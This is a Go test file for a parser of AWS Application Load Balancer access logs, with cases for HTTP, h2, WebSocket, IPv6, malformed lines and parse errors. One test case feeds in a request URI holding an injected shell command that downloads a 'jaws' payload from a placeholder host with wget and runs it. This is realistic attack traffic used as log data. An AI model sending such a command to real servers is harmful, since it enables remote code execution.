package elblog

import (
	"errors"
	"strings"
	"testing"
)

const albTG = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"

// albWant returns the expected record of albDocHTTP (ALB example 1), changed by edit.
func albWant(t *testing.T, edit func(r *ALBAccess)) ALBAccess {
	r := ALBAccess{
		Type:                   "http",
		Time:                   ts(t, "2018-07-02T22:23:00.186641Z"),
		ELB:                    "app/my-loadbalancer/50dc6c495c0c9188",
		Client:                 ad("192.168.131.39", 2817),
		Target:                 ad("10.0.0.1", 80),
		RequestProcessingTime:  vf(0),
		TargetProcessingTime:   vf(0.001),
		ResponseProcessingTime: vf(0),
		ELBStatusCode:          vi(200),
		TargetStatusCode:       vi(200),
		ReceivedBytes:          vi(34),
		SentBytes:              vi(366),
		Request: Request{Method: "GET", URL: "http://www.example.com:80/", Proto: "HTTP/1.1",
			Scheme: "http", Host: "www.example.com", Port: 80, Path: "/"},
		UserAgent:            "curl/7.46.0",
		TargetGroupARN:       albTG,
		TraceID:              "Root=1-58337262-36d228ad5d99923122bbe354",
		MatchedRulePriority:  vi(0),
		RequestCreationTime:  ts(t, "2018-07-02T22:22:48.364000Z"),
		ActionsExecuted:      ls("forward", ','),
		TargetPortList:       ls("10.0.0.1:80", ' '),
		TargetStatusCodeList: ls("200", ' '),
	}
	if edit != nil {
		edit(&r)
	}
	return r
}

func TestParseALBAccess(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		line   string
		fields int
		want   ALBAccess
	}{
		"doc example 1, http, 29 fields": {
			line: albDocHTTP, fields: 29,
			want: albWant(t, nil),
		},
		"otel testdata, https, 30 fields with conn_trace_id": {
			line: albOTelHTTPS30, fields: 30,
			want: albWant(t, func(r *ALBAccess) {
				r.Type = "https"
				r.RequestProcessingTime, r.TargetProcessingTime, r.ResponseProcessingTime = vf(0.086), vf(0.048), vf(0.037)
				r.ReceivedBytes, r.SentBytes = vi(0), vi(57)
				r.Request = Request{Method: "GET", URL: "https://www.example.com:443/", Proto: "HTTP/1.1",
					Scheme: "https", Host: "www.example.com", Port: 443, Path: "/"}
				r.SSLCipher, r.SSLProtocol = "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"
				r.TraceID = "Root=1-58337281-1d84f3d73c47ec4e58577259"
				r.DomainName = "www.example.com"
				r.ChosenCertARN = "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"
				r.MatchedRulePriority = vi(1)
				r.ActionsExecuted = ls("authenticate,forward", ',')
				r.ConnTraceID = "TID_1234abcd5678ef90"
			}),
		},
		"doc example 3, h2 redirect": {
			line: albDocH2Redirect, fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Type = "h2"
				r.Client, r.Target = ad("10.0.1.252", 48160), ad("10.0.0.66", 9000)
				r.TargetProcessingTime = vf(0.002)
				r.ReceivedBytes, r.SentBytes = vi(5), vi(257)
				r.Request = Request{Method: "GET", URL: "https://10.0.2.105:773/", Proto: "HTTP/2.0",
					Scheme: "https", Host: "10.0.2.105", Port: 773, Path: "/"}
				r.SSLCipher, r.SSLProtocol = "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"
				r.TraceID = "Root=1-58337327-72bd00b0343d75b906739c42"
				r.MatchedRulePriority = vi(1)
				r.ActionsExecuted = ls("redirect", ',')
				r.RedirectURL = "https://example.com:80/"
				r.TargetPortList = ls("10.0.0.66:9000", ' ')
			}),
		},
		"doc example 4, wss": {
			line: albDocWSS, fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Type = "wss"
				r.Client, r.Target = ad("10.0.0.140", 44244), ad("10.0.0.171", 8010)
				r.ELBStatusCode, r.TargetStatusCode = vi(101), vi(101)
				r.ReceivedBytes, r.SentBytes = vi(218), vi(786)
				r.Request = Request{Method: "GET", URL: "https://10.0.0.30:443/", Proto: "HTTP/1.1",
					Scheme: "https", Host: "10.0.0.30", Port: 443, Path: "/"}
				r.UserAgent = ""
				r.SSLCipher, r.SSLProtocol = "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"
				r.TargetGroupARN = "arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
				r.TraceID = "Root=1-58337364-23a8c76965a2ef7629b185e3"
				r.MatchedRulePriority = vi(1)
				r.TargetPortList, r.TargetStatusCodeList = ls("10.0.0.171:8010", ' '), ls("101", ' ')
			}),
		},
		"doc example 5, lambda error, no target": {
			line: albDocLambdaError, fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Time = ts(t, "2018-11-30T22:23:00.186641Z")
				r.Target = Addr{}
				r.ELBStatusCode, r.TargetStatusCode = vi(502), Int{}
				r.TraceID = "Root=1-58337364-23a8c76965a2ef7629b185e3"
				r.RequestCreationTime = ts(t, "2018-11-30T22:22:48.364000Z")
				r.ErrorReason = "LambdaInvalidResponse"
				r.TargetPortList, r.TargetStatusCodeList = List{}, List{}
			}),
		},
		"vrl malformed request, -1 times": {
			line: albVRLMalformed, fields: 30,
			want: ALBAccess{
				Type:                   "http",
				Time:                   ts(t, "2021-03-17T18:54:14.216357Z"),
				ELB:                    "app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f",
				Client:                 ad("113.241.19.90", 15070),
				RequestProcessingTime:  vf(-1),
				TargetProcessingTime:   vf(-1),
				ResponseProcessingTime: vf(-1),
				ELBStatusCode:          vi(400),
				ReceivedBytes:          vi(0),
				SentBytes:              vi(272),
				Request: Request{URL: "http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-",
					Scheme: "http", Host: "awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com"},
				RequestCreationTime: ts(t, "2021-03-17T18:54:13.967000Z"),
				ConnTraceID:         "TID_dc57cebed65b444ebc8177bb698fe166",
			},
		},
		"vrl issue 861, real h2 line": {
			line: albVRLIssue861, fields: 30,
			want: albWant(t, func(r *ALBAccess) {
				r.Type = "h2"
				r.Time = ts(t, "2024-05-28T08:12:36.431832Z")
				r.ELB = "app/xxxxxx-lb/xxxxxxx"
				r.Client, r.Target = ad("10.10.10.10", 13624), ad("1.1.1.1", 8000)
				r.TargetProcessingTime = vf(0.177)
				r.ReceivedBytes, r.SentBytes = vi(961), vi(2071)
				r.Request = Request{Method: "GET", URL: "https://xxx.xx:443/", Proto: "HTTP/2.0",
					Scheme: "https", Host: "xxx.xx", Port: 443, Path: "/"}
				r.UserAgent = "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1"
				r.SSLCipher, r.SSLProtocol = "TLS_AES_128_GCM_SHA256", "TLSv1.3"
				r.TargetGroupARN = "arn:aws:elasticloadbalancing:ap-northeast-1:00000000000:targetgroup/xxxxxxx/fc465292d29"
				r.TraceID = "Root=1-665591f4-15d57af7699b090b59a269b4"
				r.DomainName = "xxxxxx.xx"
				r.ChosenCertARN = "arn:aws:acm:ap-northeast-1:0000000000000:certificate/5ceabee6-9244-4331-9690-xxxxxxxxxx"
				r.MatchedRulePriority = vi(10160)
				r.RequestCreationTime = ts(t, "2024-05-28T08:12:36.254000Z")
				r.TargetPortList = ls("172.16.140.164:8000", ' ')
				r.ConnTraceID = "TID_37acbe0641d1c34287fee137ef3a5286"
			}),
		},
		"vrl 33 fields, unquoted target lists": {
			line: albVRL33Unquoted, fields: 33,
			want: albWant(t, func(r *ALBAccess) {
				r.ConnTraceID = "TID_dc57cebed65b444ebc8177bb698fe166"
			}),
		},
		"ipv6 client, unbracketed": {
			line: albIPv6, fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Type = "h2"
				r.Time = ts(t, "2023-09-10T23:55:00.361692Z")
				r.ELB = "app/I8YR24BIAN4K/6378464905b0814a"
				r.Client, r.Target = ad("2a02:a33c:4538:1:bcf4:5264:e01c:f215", 50718), ad("10.0.0.0", 80)
				r.TargetProcessingTime = vf(0.003)
				r.ELBStatusCode, r.TargetStatusCode = vi(401), vi(401)
				r.ReceivedBytes, r.SentBytes = vi(29), vi(805)
				r.Request = Request{Method: "GET", URL: "https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding", Proto: "HTTP/2.0",
					Scheme: "https", Host: "api.foo.bar.nl", Port: 443, Path: "/api/v1/alerts/me/outstanding"}
				r.UserAgent = "3.20.0 (Build/1900005469; Android 33; samsung; SM-G781B) okhttp/4.11.0"
				r.SSLCipher, r.SSLProtocol = "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"
				r.TargetGroupARN = "arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af"
				r.TraceID = "Root=1-64fe5754-33ecd7461b3736944677bb97"
				r.DomainName = "api.foo.bar.nl"
				r.ChosenCertARN = "session-reused"
				r.MatchedRulePriority = vi(11)
				r.RequestCreationTime = ts(t, "2023-09-10T23:55:00.358000Z")
				r.TargetPortList, r.TargetStatusCodeList = ls("10.0.100.2:80", ' '), ls("401", ' ')
			}),
		},
		"spaces in the URI, classification": {
			line: strings.TrimSuffix(strings.Replace(albDocHTTP,
				`"GET http://www.example.com:80/ HTTP/1.1"`,
				`"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh+/tmp/jaws HTTP/1.1"`, 1),
				`"-" "-"`) + `"Acceptable" "SpaceInUri"`,
			fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Request = Request{Method: "GET", URL: "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws;sh+/tmp/jaws", Proto: "HTTP/1.1",
					Scheme: "http", Host: "127.0.0.1", Port: 80, Path: "/shell", Query: "cd+/tmp;wget+ a.example/jaws;sh+/tmp/jaws"}
				r.Classification, r.ClassificationReason = "Acceptable", "SpaceInUri"
			}),
		},
		"escaped quotes in the user agent": {
			line:   strings.Replace(albDocHTTP, `"curl/7.46.0"`, `"say \"hi\" \\o/"`, 1),
			fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.UserAgent = `say "hi" \o/`
			}),
		},
		"bracketed IPv6 host in the request": {
			line:   strings.Replace(albDocHTTP, `http://www.example.com:80/`, `http://[::ffff:10.0.0.1]:8080/a?b=c#frag`, 1),
			fields: 29,
			want: albWant(t, func(r *ALBAccess) {
				r.Request = Request{Method: "GET", URL: "http://[::ffff:10.0.0.1]:8080/a?b=c#frag", Proto: "HTTP/1.1",
					Scheme: "http", Host: "::ffff:10.0.0.1", Port: 8080, Path: "/a", Query: "b=c"}
			}),
		},
		"35 fields, two unknown trailing fields": {
			line: albVRL33Unquoted + ` "new field" 42`, fields: 35,
			want: albWant(t, func(r *ALBAccess) {
				r.ConnTraceID = "TID_dc57cebed65b444ebc8177bb698fe166"
				r.Extra = []string{"new field", "42"}
			}),
		},
		"several targets in the lists, transform fields set": {
			line: strings.Replace(albDocHTTP, `"10.0.0.1:80" "200"`, `"10.0.0.1:80 10.0.0.2:80" "502 200"`, 1) +
				` TID_01 "internal.example.com" "/v2/items?id=1" "TransformSuccess"`,
			fields: 33,
			want: albWant(t, func(r *ALBAccess) {
				r.TargetPortList, r.TargetStatusCodeList = ls("10.0.0.1:80 10.0.0.2:80", ' '), ls("502 200", ' ')
				r.ConnTraceID = "TID_01"
				r.TransformedHost, r.TransformedURI, r.RequestTransformStatus = "internal.example.com", "/v2/items?id=1", "TransformSuccess"
			}),
		},
		"crlf line end": {
			line: albDocHTTP + "\r\n", fields: 29,
			want: albWant(t, nil),
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var r ALBAccess
			if err := ParseALBAccess(tc.line, &r); err != nil {
				t.Fatalf("ParseALBAccess: %v", err)
			}
			if len(r.Fields) != tc.fields {
				t.Errorf("got %d fields, want %d", len(r.Fields), tc.fields)
			}
			assertRecord(t, r, tc.want)
		})
	}
}

func TestParseALBAccess_Errors(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		line    string
		wantErr string
	}{
		"three fields": {
			line:    `http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188`,
			wantErr: "alb_access line has 3 fields, want at least 29",
		},
		"28 fields": {
			line:    albDocHTTP[:strings.LastIndex(albDocHTTP, ` "-"`)],
			wantErr: "alb_access line has 28 fields, want at least 29",
		},
		"empty": {
			line:    "",
			wantErr: "alb_access line has 0 fields, want at least 29",
		},
		"bad status code": {
			line:    strings.Replace(albDocHTTP, " 200 200 ", " 2x0 200 ", 1),
			wantErr: `alb_access line: field 9 (elb_status_code): invalid integer "2x0"`,
		},
		"bad processing time": {
			line:    strings.Replace(albDocHTTP, " 0.001 ", " 0.0.1 ", 1),
			wantErr: `alb_access line: field 7 (target_processing_time): invalid number "0.0.1"`,
		},
		"bad time": {
			line:    strings.Replace(albDocHTTP, "2018-07-02T22:23:00.186641Z", "2018-13-02T22:23:00.186641Z", 1),
			wantErr: `alb_access line: field 2 (time): invalid time "2018-13-02T22:23:00.186641Z"`,
		},
		"bad port": {
			line:    strings.Replace(albDocHTTP, "192.168.131.39:2817", "192.168.131.39:99999", 1),
			wantErr: `alb_access line: field 4 (client:port): invalid ip:port "192.168.131.39:99999"`,
		},
		"no port": {
			line:    strings.Replace(albDocHTTP, "192.168.131.39:2817", "192.168.131.39", 1),
			wantErr: `alb_access line: field 4 (client:port): invalid ip:port "192.168.131.39"`,
		},
		"unclosed quote": {
			line:    albDocHTTP[:strings.Index(albDocHTTP, `"curl`)] + `"curl/7.46.0 - -`,
			wantErr: "alb_access line: field 14 has no closing quote",
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var r ALBAccess
			err := ParseALBAccess(tc.line, &r)
			if err == nil {
				t.Fatal("ParseALBAccess: no error")
			}
			if err.Error() != tc.wantErr {
				t.Errorf("error = %q, want %q", err, tc.wantErr)
			}
			var pe *ParseError
			if !errors.As(err, &pe) || pe.Format != FormatALBAccess || pe.Want != 29 {
				t.Errorf("error = %#v, want a *ParseError for alb_access wanting 29 fields", err)
			}
		})
	}
}

// TestParseALBAccess_Reuse checks that a record reused for a shorter line keeps no
// value of the longer one.
func TestParseALBAccess_Reuse(t *testing.T) {
	t.Parallel()
	var r ALBAccess
	if err := ParseALBAccess(albVRL33Unquoted+" extra", &r); err != nil {
		t.Fatal(err)
	}
	if err := ParseALBAccess(albDocHTTP, &r); err != nil {
		t.Fatal(err)
	}
	assertRecord(t, r, albWant(t, nil))
}

func TestListItems(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		list List
		want []string
	}{
		"absent":             {List{}, nil},
		"one":                {ls("forward", ','), []string{"forward"}},
		"comma-separated":    {ls("authenticate,forward", ','), []string{"authenticate", "forward"}},
		"space-separated":    {ls("10.0.0.1:80 10.0.0.2:80", ' '), []string{"10.0.0.1:80", "10.0.0.2:80"}},
		"empty items":        {ls(",a,,b,", ','), []string{"a", "b"}},
		"quoted items":       {ls(`"h2","http/1.1"`, ','), []string{"h2", "http/1.1"}},
		"quoted with commas": {ls(`"a,b","c"`, ','), []string{"a,b", "c"}},
		"unclosed quote":     {ls(`"h2","http/1.1`, ','), []string{"h2", "http/1.1"}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := tc.list.Items()
			if len(got) != len(tc.want) {
				t.Fatalf("Items() = %q, want %q", got, tc.want)
			}
			for i := range got {
				if got[i] != tc.want[i] {
					t.Fatalf("Items() = %q, want %q", got, tc.want)
				}
			}
		})
	}
}
